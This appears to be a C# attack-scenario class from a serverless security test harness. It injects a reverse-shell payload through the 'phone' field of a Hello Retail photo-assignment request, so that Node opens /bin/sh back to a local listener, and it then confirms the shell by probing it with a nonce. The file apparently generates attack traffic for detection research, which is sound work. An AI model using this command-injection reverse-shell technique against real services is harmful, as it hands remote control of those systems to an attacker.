namespace FaaSMon.Workload;

/// <summary>
/// Reverse shell: a "phone number" injected into product-photos-message's shell command starts Node, which connects back to
/// the attacker's listener and pipes an interactive /bin/sh to it. Verified when the shell answers a probe with the nonce
/// and its uid.
/// </summary>
internal sealed class ReverseShellAttack : IAttackScenario
{
    private static readonly TimeSpan ShellWait = TimeSpan.FromSeconds(20);

    public string Family => AttackFamily.ReverseShell;

    public int GatedSteps => 1;

    public async Task<AttackOutcome> RunAsync(AttackRun run, CancellationToken ct)
    {
        var environment = run.Environment;
        await run.ReachStepAsync(0, ct);
        await environment.ShellTurn.WaitAsync(ct);
        try
        {
            // Listen first: the shell may connect before the function has even answered.
            var session = environment.Shells.RunProbeAsync(run.Nonce, ShellWait, ct);
            var phone = AttackPayloads.ReverseShellPhone(environment.Shells.Host, environment.Shells.Port);
            var photographer = HelloRetail.SeedPhotographers[0];
            var trigger = await run.SendMaliciousAsync(
                GatewayRequest.Post(HelloRetail.PhotosMessage, "/", new
                {
                    assignment = new { id = $"as-{run.Nonce[..8]}", product = AttackPayloads.VictimProduct, photographer },
                    photographer = new { id = photographer, name = "Pat Reyes", email = "pat.reyes@example.com", phone },
                    product = new { id = AttackPayloads.VictimProduct, category = AttackPayloads.VictimCategory },
                }),
                AttackStep.Trigger,
                ct);

            var shell = await session;
            if (shell is null)
            {
                return run.Outcome(false, $"no shell connected to 127.0.0.1:{environment.Shells.Port} within {ShellWait.TotalSeconds:F0}s; message answered {trigger}");
            }

            return shell.Answered
                ? run.Outcome(true, $"shell from {shell.Remote} answered the probe with {AttackPayloads.ReverseShellMarker(run.Nonce)}{shell.Uid} (uid {shell.Uid}); message answered {trigger}")
                : run.Outcome(false, $"shell from {shell.Remote} connected but did not answer the probe; it sent {shell.Transcript.Length} chars ({Excerpt(shell.Transcript)}); message answered {trigger}");
        }
        finally
        {
            environment.ShellTurn.Release();
        }
    }

    /// <summary>The start of what the shell said, as one printable line.</summary>
    private static string Excerpt(string transcript)
    {
        var printable = new string([.. transcript.Take(120).Select(c => char.IsControl(c) ? ' ' : c)]);
        return $"\"{printable}{(transcript.Length > 120 ? "…" : "")}\"";
    }
}
